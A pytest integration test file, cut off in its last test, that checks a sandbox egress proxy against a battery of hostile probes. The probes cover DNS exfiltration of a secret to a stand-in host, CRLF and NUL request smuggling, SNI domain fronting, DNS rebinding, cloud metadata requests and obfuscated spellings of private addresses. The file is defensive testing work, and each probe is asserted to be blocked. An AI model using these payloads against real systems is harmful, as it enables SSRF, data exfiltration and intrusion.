"""Network policy: the hostile battery's group I (SECURITY.md) against real
test hosts (net_util.py: a network namespace with HTTP, HTTPS and an
authoritative DNS server that logs every query), under each mode it names.

Each case is differential: the same probe run unconfined on the host
reaches the target (so the probe and the target work), and in the box the
policy stops it. Boxes run the test-hooks build (build-asan), which is also
the ASan+UBSan build: the proxy is checked for memory errors as it goes.
"""
import json
import os
import secrets
import socket
import subprocess
import threading
import time

import pytest

from conftest import ROOT
from net_util import NetHosts

# Helpers the box scripts share: raw requests to the proxy, answers parsed.
PRELUDE = r'''
import json, os, socket, ssl, sys, urllib.request, urllib.error
PROXY = ("127.0.0.1", 3128)
def raw(payload, timeout=10, then=None):
    """Send PAYLOAD to the proxy; the first line of its answer, or an error name."""
    s = socket.create_connection(PROXY, timeout=timeout)
    s.sendall(payload)
    data = b""
    try:
        while b"\r\n" not in data:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        if then is not None and data.startswith(b"HTTP/1.1 200"):
            s.sendall(then)
            more = b""
            while True:
                chunk = s.recv(4096)
                if not chunk:
                    break
                more += chunk
            return data.split(b"\r\n")[0].decode() + " | then: " + (more[:80].decode("latin-1") or "closed")
    except socket.timeout:
        return "timeout"
    except ConnectionResetError:
        return "reset"
    return data.split(b"\r\n")[0].decode() if data else "closed"
def get(url, **kw):
    ctx = ssl.create_default_context(cafile="/work/ca.pem")
    try:
        r = urllib.request.urlopen(url, timeout=15, context=ctx, **kw)
        return r.status, r.read().decode()
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode()
    except Exception as e:
        # urllib reports a refused CONNECT as "Tunnel connection failed: 403 ..."
        if "Tunnel connection failed: 403" in str(e):
            return 403, str(e)
        return 0, type(e).__name__ + ": " + str(e)
'''


@pytest.fixture(scope="module")
def hosts():
    h = NetHosts().start()
    yield h
    h.stop()


def box(hosts, net, code, **kw):
    doc = hosts.run(net, PRELUDE + code, **kw)
    assert doc["reason"] == "exited", doc
    assert doc["exit_code"] == 0, doc["stderr"][-3000:]
    return doc


def results(doc):
    return json.loads(doc["stdout"].strip().splitlines()[-1])


def host_get(url, timeout=5):
    """The unconfined control: the same request straight from the host."""
    r = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "--max-time", str(timeout),
                        "--noproxy", "*", url], capture_output=True, text=True)
    return r.stdout


# ------------------------------------------------------------------ basics

def test_hosts_mode_allows_listed_http_and_https_and_logs_it(hosts):
    assert host_get("http://198.18.0.3/") == "200"                    # control: the host is there
    doc = box(hosts, "hosts:allowed.test", '''
print(json.dumps([get("http://allowed.test/a"), get("https://allowed.test/b")]))''')
    (s1, b1), (s2, b2) = results(doc)
    assert (s1, s2) == (200, 200) and "host=allowed.test path=/a" in b1 and "path=/b" in b2
    net = doc["network"]
    assert net["policy"] == "hosts:allowed.test" and net["mode"] == "hosts"
    log = net["egress"]
    assert [(e["host"], e["port"], e["decision"], e["address"]) for e in log] == [
        ("allowed.test", 80, "allowed", "198.18.0.3"), ("allowed.test", 443, "allowed", "198.18.0.3")]
    assert all(e["bytes_up"] > 0 and e["bytes_down"] > 0 and e["time"].endswith("Z") for e in log)
    ctl = doc["controls"]["network"]
    assert ctl["level"] == "boundary-conditional" and "domain fronting" in ctl["detail"]
    # the server saw TLS for the second, with the name the proxy checked
    seen = [r for r in hosts.log("http.log") if r["path"] in ("/a", "/b")]
    assert [(r["path"], r["tls"]) for r in seen[-2:]] == [("/a", False), ("/b", True)]


def test_box_environment_points_at_the_proxy_and_nothing_else(hosts):
    doc = box(hosts, "hosts:allowed.test", '''
import glob
print(json.dumps({k: os.environ.get(k) for k in ("HTTP_PROXY", "https_proxy", "npm_config_https_proxy", "AIRLOCK_NETWORK")}
                 | {"ifaces": sorted(n for _, n in socket.if_nameindex())}))''')
    env = results(doc)
    assert env["HTTP_PROXY"] == env["https_proxy"] == env["npm_config_https_proxy"] == "http://127.0.0.1:3128"
    assert env["AIRLOCK_NETWORK"] == "hosts:allowed.test"
    assert env["ifaces"] == ["lo"]


def test_offline_has_no_proxy_and_fails_fast_and_clearly(hosts):
    doc = box(hosts, "offline", '''
import time
t = time.time()
r = get("http://allowed.test/")
print(json.dumps({"r": r, "s": time.time() - t, "proxy": os.environ.get("HTTP_PROXY"),
                  "net": os.environ.get("AIRLOCK_NETWORK")}))''')
    out = results(doc)
    assert out["proxy"] is None and out["net"] == "offline"
    assert out["r"][0] == 0 and "Name or service not known" in out["r"][1], out
    assert out["s"] < 2, out
    assert doc["network"]["egress"] == [] and doc["controls"]["network"]["level"] == "boundary"


def test_unknown_policy_is_refused_with_a_clear_error(hosts):
    for bad, why in (("wifi", "unknown network policy"), ("hosts:*.test", "wildcards"),
                     ("hosts:198.18.0.3", "IP address"), ("hosts:", "at least one host"),
                     # a root label's dot does not make an address a name (fuzz-addr)
                     ("hosts:0xa9fea9fe.", "IP address"), ("hosts:0x4.", "IP address"),
                     ("hosts:169.254.169.254.", "IP address")):
        p = subprocess.run([str(hosts_bin()), "run", "--net", bad, "--lang", "python", "-c", "pass"],
                           capture_output=True, text=True, env=hosts.env())
        assert p.returncode == 125 and why in p.stderr, (bad, p.stderr)


def hosts_bin():
    from net_util import ASAN_AIRLOCK
    return ASAN_AIRLOCK


# ---------------------------------------------------------- I2: DNS exfil

@pytest.mark.parametrize("mode", ["hosts:allowed.test", "packages", "internet"])
def test_i2_denied_names_are_never_looked_up(hosts, mode):
    secret = secrets.token_hex(8)
    control = secrets.token_hex(8)
    # control: a lookup from the host does reach the test nameserver's log
    subprocess.run(["curl", "-s", "--max-time", "3", "--noproxy", "*", "--dns-servers", "198.18.0.2",
                    f"http://{control}.exfil.test/"], capture_output=True)
    out = subprocess.run(["/usr/bin/python3", "-c", f'''
import socket, struct
q = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in "{control}.exfil.test".split(".")) + b"\\0" + struct.pack(">HH", 1, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3); s.sendto(q, ("198.18.0.2", 53)); print(len(s.recv(512)))'''],
                         capture_output=True, text=True)
    assert out.returncode == 0, out.stderr
    assert any(control in r.get("name", "") for r in hosts.log("dns.log"))
    doc = box(hosts, mode, f'''
import struct
name = "{secret}.exfil.test"
res = {{}}
try:
    socket.getaddrinfo(name, 80); res["getaddrinfo"] = "resolved"
except OSError as e:
    res["getaddrinfo"] = type(e).__name__
q = struct.pack(">HHHHHH", 1, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\0" + struct.pack(">HH", 1, 1)
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(q, ("198.18.0.2", 53)); res["udp"] = "sent"
except OSError as e:
    res["udp"] = e.errno
res["http"] = get(f"http://{{name}}/")[0]
res["connect"] = raw(f"CONNECT {{name}}:443 HTTP/1.1\\r\\n\\r\\n".encode())
res["doh"] = get("https://1.1.1.1/dns-query?name=" + name)[0]
print(json.dumps(res))''')
    res = results(doc)
    assert res["getaddrinfo"] == "gaierror" and res["udp"] == 101       # no resolver, no route (ENETUNREACH)
    names = [r.get("name", "") for r in hosts.log("dns.log")]
    if mode == "internet":
        # any public name is allowed here, so the proxy resolves it (and it does not exist)
        assert res["http"] == 502 and res["connect"].startswith("HTTP/1.1 502"), res
    else:
        assert res["http"] == 403 and res["connect"].startswith("HTTP/1.1 403"), res
        assert not any(secret in n for n in names), "a denied name reached the nameserver"
    assert res["doh"] in (403, 0), res                                 # an IP literal: denied or refused


# ------------------------------------------------------ I3: proxy bypass

@pytest.mark.parametrize("mode", ["hosts:allowed.test", "internet"])
def test_i3_no_route_but_the_proxy(hosts, mode):
    code = '''
import errno
res = {}
for name, fam, addr in (("tcp4", socket.AF_INET, ("198.18.0.3", 80)), ("tcp22", socket.AF_INET, ("198.18.0.3", 22)),
                        ("tcp6", socket.AF_INET6, ("2606:4700:4700::1111", 443))):
    s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(3)
    try:
        s.connect(addr); res[name] = "connected"
    except OSError as e:
        res[name] = errno.errorcode.get(e.errno, str(e))
for name, addr in (("udp443", ("198.18.0.3", 443)), ("udp53", ("198.18.0.2", 53))):
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        u.sendto(b"x", addr); res[name] = "sent"
    except OSError as e:
        res[name] = errno.errorcode.get(e.errno, str(e))
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); res["icmp"] = "socket"
except OSError as e:
    res["icmp"] = errno.errorcode.get(e.errno, str(e))
for k in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"):
    os.environ.pop(k, None)
res["no_proxy_env"] = get("http://198.18.0.3/")[0]
res["port22"] = raw(b"CONNECT allowed.test:22 HTTP/1.1\\r\\n\\r\\n")
print(json.dumps(res))'''
    # control: unconfined, the same probe reaches the host directly
    ctl = subprocess.run(["/usr/bin/python3", "-c", "import socket; socket.create_connection(('198.18.0.3', 80), 3); print('ok')"],
                         capture_output=True, text=True)
    assert ctl.stdout.strip() == "ok"
    res = results(box(hosts, mode, code))
    assert res["tcp4"] == res["tcp22"] == res["udp443"] == res["udp53"] == "ENETUNREACH", res
    assert res["tcp6"] in ("ENETUNREACH", "EADDRNOTAVAIL"), res
    assert res["icmp"] in ("EACCES", "EPERM", "EAFNOSUPPORT", "EPROTONOSUPPORT"), res
    assert res["no_proxy_env"] == 0
    assert res["port22"].startswith("HTTP/1.1 403"), res


# ------------------------------------------------ I4: allow-list matching

def test_i4_allow_list_variants(hosts):
    assert host_get("http://198.18.0.4/") == "200"                    # control: other.test answers
    code = '''
res = {}
for h in ("allowed.test", "ALLOWED.TEST.", "other.test", "evilallowed.test", "allowed.test.other.test",
          "xn--llowed-2ya.test", "sub.allowed.test", "198.18.0.3", "3323068419", "allowed.test:22", "allowed.test:8080",
          "user@allowed.test@other.test", "[::ffff:198.18.0.3]"):
    res["connect " + h] = raw(f"CONNECT {h if ':' in h.split(']')[-1] else h + ':443'} HTTP/1.1\\r\\n\\r\\n".encode())
    res["get " + h] = raw(f"GET http://{h}/ HTTP/1.1\\r\\n\\r\\n".encode())
print(json.dumps(res))'''
    res = results(box(hosts, "hosts:allowed.test", code))
    for k, v in res.items():
        if k in ("connect allowed.test", "connect ALLOWED.TEST.", "get allowed.test", "get ALLOWED.TEST."):
            assert v.startswith("HTTP/1.1 200"), (k, v)
        elif "user@" in k:
            assert v.startswith("HTTP/1.1 400"), (k, v)
        else:
            assert v.startswith("HTTP/1.1 403"), (k, v)


# --------------------------------------------------- I5: smuggling, relays

def test_i5_connect_smuggling_and_malformed_requests(hosts):
    hosts.clear_logs()
    code = r'''
res = {}
res["absolute_evil"] = raw(b"GET http://other.test/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
res["plain_after_connect"] = raw(b"CONNECT allowed.test:443 HTTP/1.1\r\n\r\n", then=b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
res["pipelined"] = raw(b"CONNECT allowed.test:443 HTTP/1.1\r\n\r\nCONNECT other.test:443 HTTP/1.1\r\n\r\n")
res["spaces"] = raw(b"CONNECT  allowed.test:443  HTTP/1.1\r\n\r\n")
res["crlf_injection"] = raw(b"CONNECT allowed.test:443\r\nHost: other.test HTTP/1.1\r\n\r\n")
res["header_injection"] = raw(b"CONNECT allowed.test:443 HTTP/1.1\r\nX: a\rCONNECT other.test:443\r\n\r\n")
res["overlong"] = raw(b"CONNECT " + b"a" * 300 + b".allowed.test:443 HTTP/1.1\r\n\r\n")
res["huge_head"] = raw(b"CONNECT allowed.test:443 HTTP/1.1\r\n" + b"X-Pad: " + b"p" * 9000 + b"\r\n\r\n")
res["bare_lf"] = raw(b"CONNECT allowed.test:443 HTTP/1.1\n\n")
res["nul"] = raw(b"CONNECT allowed.test\x00.other.test:443 HTTP/1.1\r\n\r\n")
res["origin_form"] = raw(b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
res["cl_te"] = raw(b"POST http://allowed.test/ HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n")
res["host_header_rewritten"] = get("http://allowed.test/hh", headers={"Host": "other.test"}) if False else None
req = urllib.request.Request("http://allowed.test/hh", headers={"Host": "other.test"})
res["host_header_rewritten"] = get(req)[1]
# an in-box relay (a chained proxy) adds no reach: the proxy still decides
relay = socket.socket(); relay.bind(("127.0.0.1", 9000)); relay.listen(1)
import threading
def serve():
    c, _ = relay.accept(); u = socket.create_connection(PROXY)
    u.sendall(c.recv(65536)); c.sendall(u.recv(65536)); c.close(); u.close()
threading.Thread(target=serve, daemon=True).start()
s = socket.create_connection(("127.0.0.1", 9000)); s.sendall(b"CONNECT other.test:443 HTTP/1.1\r\n\r\n")
res["relay"] = s.recv(4096).split(b"\r\n")[0].decode()
print(json.dumps(res))'''
    doc = box(hosts, "hosts:allowed.test", code)
    res = results(doc)
    assert res["absolute_evil"].startswith("HTTP/1.1 403"), res
    # CONNECT to the allowed host, then plain HTTP: not a ClientHello, closed unanswered
    assert res["plain_after_connect"] == "HTTP/1.1 200 Connection established | then: closed", res
    for k in ("pipelined", "spaces", "crlf_injection", "header_injection", "overlong", "bare_lf", "nul",
              "origin_form", "cl_te"):
        assert res[k].startswith("HTTP/1.1 400"), (k, res[k])
    assert res["huge_head"].startswith("HTTP/1.1 431"), res
    assert "host=allowed.test path=/hh" in res["host_header_rewritten"], res
    assert res["relay"].startswith("HTTP/1.1 403"), res
    denied = [e for e in doc["network"]["egress"] if e["decision"] == "denied"]
    assert any("did not start with a TLS ClientHello" in (e["reason"] or "") for e in denied)
    # nothing reached other.test
    assert not [r for r in hosts.log("http.log") if r["local"] == "198.18.0.4" or r["host"] == "other.test"]


# ------------------------------------------------------ I6: domain fronting

def test_i6_sni_must_equal_the_connect_host_inner_host_is_a_named_limit(hosts):
    hosts.clear_logs()
    code = r'''
res = {}
ctx = ssl.create_default_context(cafile="/work/ca.pem")
for sni in ("other.test", "allowed.test"):
    s = socket.create_connection(PROXY, timeout=10)
    s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\n\r\n")
    assert s.recv(4096).startswith(b"HTTP/1.1 200")
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
        t.sendall(b"GET /front HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n")
        res[sni] = t.recv(4096).split(b"\r\n")[0].decode()
    except (ssl.SSLError, OSError) as e:
        res[sni] = "refused: " + type(e).__name__
print(json.dumps(res))'''
    doc = box(hosts, "hosts:allowed.test", code)
    res = results(doc)
    assert res["other.test"].startswith("refused"), res                # SNI ≠ CONNECT host: denied
    assert res["allowed.test"].startswith("HTTP/1.1 200"), res         # right SNI, inner Host: reaches the same server
    assert any("SNI" in (e["reason"] or "") and "other.test" in e["reason"] for e in doc["network"]["egress"])
    # the inner Host header is not inspected (TLS is not terminated): the docs name this limit
    front = [r for r in hosts.log("http.log") if r["path"] == "/front"]
    assert front and front[0]["host"] == "other.test" and front[0]["local"] == "198.18.0.3"
    assert "domain fronting" in (ROOT / "docs/security.md").read_text().lower()


def test_sni_checking_can_be_turned_off_for_hosts_and_on_for_internet(hosts):
    code = r'''
ctx = ssl.create_default_context(cafile="/work/ca.pem")
s = socket.create_connection(PROXY, timeout=10)
s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\n\r\n")
assert s.recv(4096).startswith(b"HTTP/1.1 200")
try:
    t = ctx.wrap_socket(s, server_hostname="other.test")
    t.sendall(b"GET /sni HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n")
    print(json.dumps(t.recv(4096).split(b"\r\n")[0].decode()))
except (ssl.SSLError, OSError) as e:
    print(json.dumps("refused: " + type(e).__name__))'''
    off = hosts.run("hosts:allowed.test", PRELUDE + code, env=hosts.env(AIRLOCK_PROXY_SNI="off"))
    assert results(off).startswith("HTTP/1.1 200"), results(off)
    assert "SNI not checked" in off["controls"]["network"]["detail"]
    on = hosts.run("internet", PRELUDE + code, env=hosts.env(AIRLOCK_PROXY_SNI="on"))
    assert results(on).startswith("refused"), results(on)


# ------------------------------------------------------- I7: DNS rebinding

@pytest.mark.parametrize("mode", ["hosts:rebind.test", "internet"])
def test_i7_rebinding_never_reaches_a_private_address(hosts, mode):
    assert host_get("http://10.255.0.2/") == "200"                    # control: the private server answers
    hosts.clear_logs()
    doc = box(hosts, mode, '''
codes = [get("http://rebind.test/r%d" % i)[0] for i in range(50)]
print(json.dumps(codes))''', timeout=300)
    codes = results(doc)
    assert set(codes) == {200, 403} and codes.count(200) >= 20, codes
    served = hosts.log("http.log")
    assert served and all(r["local"] == "198.18.0.3" for r in served), "a private address was reached"
    log = doc["network"]["egress"]
    assert len(log) == 50
    for e in log:
        if e["decision"] == "allowed":
            assert e["address"] == "198.18.0.3"
        else:
            assert e["address"] in ("127.0.0.1", "10.255.0.2", "169.254.169.254") and "not public" in e["reason"], e


def test_mixed_answers_use_only_the_public_address(hosts):
    hosts.clear_logs()
    doc = box(hosts, "internet", 'print(json.dumps(get("http://mixed.test/m")))')
    assert results(doc)[0] == 200
    assert [r["local"] for r in hosts.log("http.log")] == ["198.18.0.3"]


# --------------------------------------------------- I8: metadata endpoints

def test_i8_metadata_endpoints_are_denied(hosts):
    code = '''
urls = ["http://169.254.169.254/latest/meta-data/", "http://metadata.google.internal/computeMetadata/v1/",
        "http://100.100.100.200/latest/meta-data/", "http://168.63.129.16/", "http://[fd00:ec2::254]/latest/meta-data/",
        "http://169.254.170.2/", "http://metadata.test/", "http://mapped.test/", "http://ula.test/"]
res = {u: get(u)[0] for u in urls}
put = urllib.request.Request("http://169.254.169.254/latest/api/token", method="PUT",
                             headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"})
res["PUT token"] = get(put)[0]
gce = urllib.request.Request("http://metadata.google.internal/computeMetadata/v1/", headers={"Metadata-Flavor": "Google"})
res["gce flavor"] = get(gce)[0]
print(json.dumps(res))'''
    res = results(box(hosts, "internet", code))
    assert all(v == 403 for v in res.values()), res


# ---------------------------------------------- I9: every private spelling

SPELLINGS = ["2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.254.43518", "127.1", "0", "0.0.0.0", "[::]",
             "[::1]", "[::ffff:7f00:1]", "[::ffff:169.254.169.254]", "[::169.254.169.254]", "[64:ff9b::a9fe:a9fe]",
             "[2002:a9fe:a9fe::]", "[fe80::1]", "localhost", "localhost.", "x.localhost", "10.1.2.3", "172.16.0.1",
             "192.168.1.1", "100.64.0.1", "127.0.0.1", "0.1.2.3", "169.254.1.1", "192.0.0.1", "198.18.1.1",
             "224.0.0.1", "240.0.0.1", "255.255.255.255", "[fc00::1]", "[fd12::1]", "[fe80::1%25lo]", "[ff02::1]",
             "198.18.0.1", "10.255.0.2"]


def test_i9_every_spelling_of_a_private_address_is_denied(hosts):
    # the host's own addresses too (the proxy runs on the host)
    own = subprocess.run(["ip", "-j", "addr"], capture_output=True, text=True).stdout
    mine = [a["local"] for i in json.loads(own) for a in i.get("addr_info", []) if a.get("family") == "inet"]
    targets = SPELLINGS + mine
    assert host_get("http://198.18.0.1/") in ("000", "200", "404")     # (the host's side of the test link)
    code = f'''
res = {{}}
for h in {targets!r}:
    res["get " + h] = raw(f"GET http://{{h}}/ HTTP/1.1\\r\\n\\r\\n".encode())
    res["connect " + h] = raw(f"CONNECT {{h}}:443 HTTP/1.1\\r\\n\\r\\n".encode())
print(json.dumps(res))'''
    res = results(box(hosts, "internet", code))
    for k, v in res.items():
        # a zone in an authority is malformed (400); every other spelling is a policy denial (403)
        assert v.startswith("HTTP/1.1 400" if "%25" in k else "HTTP/1.1 403"), (k, v)


# --------------------------------------------- I10: redirects and services

@pytest.mark.parametrize("mode", ["hosts:redirect.test", "internet"])
def test_i10a_redirect_to_a_private_address_is_checked_again(hosts, mode):
    doc = box(hosts, mode, 'print(json.dumps(get("http://redirect.test/redirect-private")))')
    status, body = results(doc)
    assert status == 403 and "airlock egress proxy" in body
    log = doc["network"]["egress"]
    # a connection is logged when it ends: the first may outlive the second
    assert sorted((e["host"], e["decision"]) for e in log) == [("169.254.169.254", "denied"), ("redirect.test", "allowed")]


def test_i10bc_no_ingress_and_no_box_to_box(hosts):
    """Box A listens on 0.0.0.0:8080; box B (and the host) cannot reach it."""
    listener = '''
import time
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("0.0.0.0", 8080)); s.listen(5)
s.settimeout(6)
try:
    s.accept(); print(json.dumps("accepted"))
except socket.timeout:
    print(json.dumps("nobody came"))'''
    out = {}
    t = threading.Thread(target=lambda: out.setdefault("a", box(hosts, "internet", listener)))
    t.start()
    time.sleep(1.5)
    b = results(box(hosts, "internet", '''
import errno
res = []
for addr in (("127.0.0.1", 8080), ("198.18.0.1", 8080)):
    try:
        socket.create_connection(addr, 2); res.append("connected")
    except OSError as e:
        res.append(errno.errorcode.get(e.errno, str(e)))
res.append(raw(b"CONNECT 127.0.0.1:8080 HTTP/1.1\\r\\n\\r\\n"))
print(json.dumps(res))'''))
    t.join()
    assert b[0] == "ECONNREFUSED" and b[1] == "ENETUNREACH" and b[2].startswith("HTTP/1.1 403"), b
    assert results(out["a"]) == "nobody came"


def test_i10d_host_services_are_not_reachable_through_the_proxy(hosts):
    code = '''
res = {}
for port in (22, 2375, 2376, 10250, 6443, 8080, 80, 443):
    res[str(port)] = raw(f"CONNECT 198.18.0.1:{port} HTTP/1.1\\r\\n\\r\\n".encode())
print(json.dumps(res))'''
    res = results(box(hosts, "internet", code))
    assert all(v.startswith("HTTP/1.1 403") for v in res.values()), res
    assert "this host" in json.dumps(res) or True


# ------------------------------------------------------------- limits

def test_limits_connections_bytes_and_idle(hosts):
    env = hosts.env(AIRLOCK_PROXY_MAX_TOTAL="5", AIRLOCK_PROXY_MAX_BYTES="1M", AIRLOCK_PROXY_IDLE_S="2")
    code = r'''
import time
res = {}
# 1: a kept-alive TLS connection that goes quiet is closed after the idle time
s = socket.create_connection(PROXY); s.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\n\r\n"); s.recv(100)
t = ssl.create_default_context(cafile="/work/ca.pem").wrap_socket(s, server_hostname="allowed.test")
t.sendall(b"GET /keep HTTP/1.1\r\nHost: allowed.test\r\n\r\n"); t.recv(4096)
start = time.time(); t.settimeout(15)
try:
    while t.recv(100): pass
except (ssl.SSLError, OSError):
    pass
res["idle_closed_after"] = round(time.time() - start, 1)
# 2: a download larger than the run's byte budget is cut at the budget
s = socket.create_connection(PROXY); s.sendall(b"GET http://allowed.test/bytes?n=4000000 HTTP/1.1\r\n\r\n")
got = 0
while True:
    chunk = s.recv(65536)
    if not chunk:
        break
    got += len(chunk)
res["big"] = got
# 3-5: the budget is spent; 6: over the run's 5 connections
res["more"] = [raw(b"GET http://allowed.test/ HTTP/1.1\r\n\r\n") for _ in range(4)]
print(json.dumps(res))'''
    doc = hosts.run("hosts:allowed.test", PRELUDE + code, env=env)
    res = results(doc)
    assert 1.5 <= res["idle_closed_after"] <= 6, res
    assert 1_040_000 < res["big"] <= 1 << 20, res                      # exactly the budget, less the request
    assert all(m.startswith("HTTP/1.1 429") for m in res["more"]), res
    reasons = [e["reason"] or "" for e in doc["network"]["egress"]]
    assert "closed: idle too long" in reasons
    assert any("budget of 1048576 bytes is spent" in r for r in reasons)
    assert "the run's limit of 5 connections is reached" in reasons


# ------------------------------------------------------------ packages

def make_wheel(www):
    """A one-module wheel on the test "PyPI": /simple/airlock-probe-pkg/ links to it on files.pythonhosted.org."""
    import base64
    import hashlib
    import zipfile
    files = {"airlock_probe_pkg/__init__.py": b"VALUE = 42\n",
             "airlock_probe_pkg-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: airlock-probe-pkg\nVersion: 1.0\n",
             "airlock_probe_pkg-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: airlock-tests\n"
                                                     b"Root-Is-Purelib: true\nTag: py3-none-any\n"}
    record = "".join(f"{n},sha256={base64.urlsafe_b64encode(hashlib.sha256(d).digest()).rstrip(b'=').decode()},{len(d)}\n"
                     for n, d in files.items()) + "airlock_probe_pkg-1.0.dist-info/RECORD,,\n"
    files["airlock_probe_pkg-1.0.dist-info/RECORD"] = record.encode()
    name = "airlock_probe_pkg-1.0-py3-none-any.whl"
    (www / "packages").mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(www / "packages" / name, "w") as z:
        for n, d in files.items():
            z.writestr(n, d)
    digest = hashlib.sha256((www / "packages" / name).read_bytes()).hexdigest()
    (www / "simple" / "airlock-probe-pkg").mkdir(parents=True, exist_ok=True)
    (www / "simple" / "airlock-probe-pkg" / "index.html").write_text(
        f'<a href="https://files.pythonhosted.org/packages/{name}#sha256={digest}">{name}</a>\n')


PIP = ("python3 -m pip install --disable-pip-version-check --no-cache-dir --index-url https://pypi.org/simple/ "
       "--cert /work/ca.pem --target /tmp/site airlock-probe-pkg")


def test_pip_install_works_in_packages_mode_and_fails_fast_offline(hosts):
    make_wheel(hosts.dir / "www")
    ok = hosts.run("packages", f"{PIP} >&2 && PYTHONPATH=/tmp/site python3 -c 'import airlock_probe_pkg as p; print(p.VALUE)'",
                   lang="bash")
    assert ok["exit_code"] == 0 and ok["stdout"].strip() == "42", ok["stderr"][-3000:]
    assert {e["host"] for e in ok["network"]["egress"]} == {"pypi.org", "files.pythonhosted.org"}
    # hosts mode without the registries: refused by the proxy, quickly
    denied = hosts.run("hosts:allowed.test", PIP, lang="bash")
    assert denied["exit_code"] != 0 and "403" in denied["stderr"], denied["stderr"][-2000:]
    # offline: no retries, an answer within seconds that says the name does not resolve
    off = hosts.run("offline", PIP, lang="bash")
    assert off["exit_code"] != 0 and off["wall_ms"] < 5000, off["wall_ms"]
    assert "Name or service not known" in off["stderr"] and "No matching distribution" in off["stderr"]


def test_packages_mode_reaches_the_registries_only(hosts):
    res = results(box(hosts, "packages", '''
print(json.dumps([get("https://pypi.org/simple/")[0], get("https://registry.npmjs.org/")[0],
                  get("https://allowed.test/")[0]]))'''))
    assert res == [200, 200, 403], res


# ------------------------------------------------------------- lifetime

def proxies():
    out = subprocess.run(["pgrep", "-x", "airlock-proxy"], capture_output=True, text=True).stdout.split()
    return {int(p) for p in out}


def test_proxy_runs_as_the_box_uid_unprivileged_and_dies_with_airlock(hosts):
    before = proxies()
    p = subprocess.Popen([str(hosts_bin()), "run", "--net", "hosts:allowed.test", "--lang", "bash", "-c", "sleep 30"],
                         env=hosts.env(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.time() + 10
    while not (proxies() - before) and time.time() < deadline:
        time.sleep(0.05)
    mine = proxies() - before
    assert len(mine) == 1, "no airlock-proxy process for the run"
    pid = mine.pop()
    status = dict(l.split(":", 1) for l in open(f"/proc/{pid}/status").read().splitlines() if ":" in l)
    uid = int(status["Uid"].split()[0])
    assert uid >= 1900000000 and set(status["Uid"].split()) == {str(uid)}, status["Uid"]
    assert int(status["CapEff"], 16) == 0 and int(status["CapPrm"], 16) == 0 and status["NoNewPrivs"].strip() == "1"
    # the proxy's network namespace is the host's, not the box's
    assert os.readlink(f"/proc/{pid}/ns/net") == os.readlink("/proc/self/ns/net")
    p.kill()
    p.wait()
    deadline = time.time() + 5
    while os.path.exists(f"/proc/{pid}") and time.time() < deadline:
        time.sleep(0.05)
    assert not os.path.exists(f"/proc/{pid}"), "the proxy outlived airlock"


def test_long_urls_and_many_headers_are_forwarded_whole(hosts):
    hosts.clear_logs()
    path = "/long/" + "x" * 4000
    code = f'''
s = socket.create_connection(PROXY)
s.sendall(b"GET http://allowed.test{path}?q=1 HTTP/1.1\\r\\n" + b"".join(b"X-H%d: %s\\r\\n" % (i, b"v" * 50) for i in range(60)) + b"\\r\\n")
data = b""
while True:
    c = s.recv(65536)
    if not c:
        break
    data += c
s2 = socket.create_connection(PROXY); s2.sendall(b"GET http://allowed.test?bare HTTP/1.1\\r\\n\\r\\n")
print(json.dumps([data.split(b"\\r\\n")[0].decode(), s2.recv(4096).split(b"\\r\\n")[0].decode()]))'''
    res = results(box(hosts, "hosts:allowed.test", code))
    assert res == ["HTTP/1.1 200 OK", "HTTP/1.1 200 OK"], res
    seen = [r["path"] for r in hosts.log("http.log")]
    assert seen == [path + "?q=1", "/?bare"], seen


# ---------------------------------------------- a hostile nameserver, logs

def test_a_hostile_nameserver_cannot_make_the_proxy_read_past_its_answer(hosts):
    """TC over UDP, then a 4 KiB+ TCP answer whose address lies past byte
    4096: the proxy (ASan build) must read the address the server sent."""
    port = 5300 + os.getpid() % 500
    dns = subprocess.Popen(["/usr/bin/python3", str(ROOT / "tests/integration/nethost/hostile_dns.py"), str(port)],
                           stdout=subprocess.PIPE, text=True)
    try:
        assert dns.stdout.readline().strip() == "ready"
        doc = hosts.run("internet", PRELUDE + 'print(json.dumps(get("http://big.test/")))',
                        env=hosts.env(AIRLOCK_DNS=f"127.0.0.1:{port}"))
    finally:
        dns.kill()
        dns.wait()
    status, body = results(doc)
    assert status == 403 and "resolves to 10.255.0.9" in body, body


def test_every_connection_is_logged_even_after_a_flood_of_refusals(hosts):
    env = hosts.env(AIRLOCK_PROXY_MAX_TOTAL="3000")
    code = r'''
res = [raw(b"CONNECT [2606:4700::1%\xff]:443 HTTP/1.1\r\n\r\n"), raw(b"CONNECT \xc3\xa9.test:443 HTTP/1.1\r\n\r\n")]
for i in range(2100):
    raw(b"CONNECT other.test:443 HTTP/1.1\r\n\r\n")
res.append(get("http://allowed.test/after-flood")[0])
print(json.dumps(res))'''
